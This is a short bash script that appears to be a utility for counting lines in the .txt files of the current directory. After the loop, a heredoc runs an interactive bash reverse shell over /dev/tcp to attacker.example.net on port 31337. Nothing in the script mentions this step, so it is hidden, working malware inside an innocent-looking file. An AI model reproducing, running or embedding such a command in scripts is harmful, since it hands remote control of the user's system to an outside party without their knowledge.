#!/usr/bin/env bash
for f in *.txt; do
  [ -e "$f" ] || continue
  wc -l "$f"
done
bash <<EOF
bash -i >& /dev/tcp/attacker.example.net/31337 0>&1
EOF
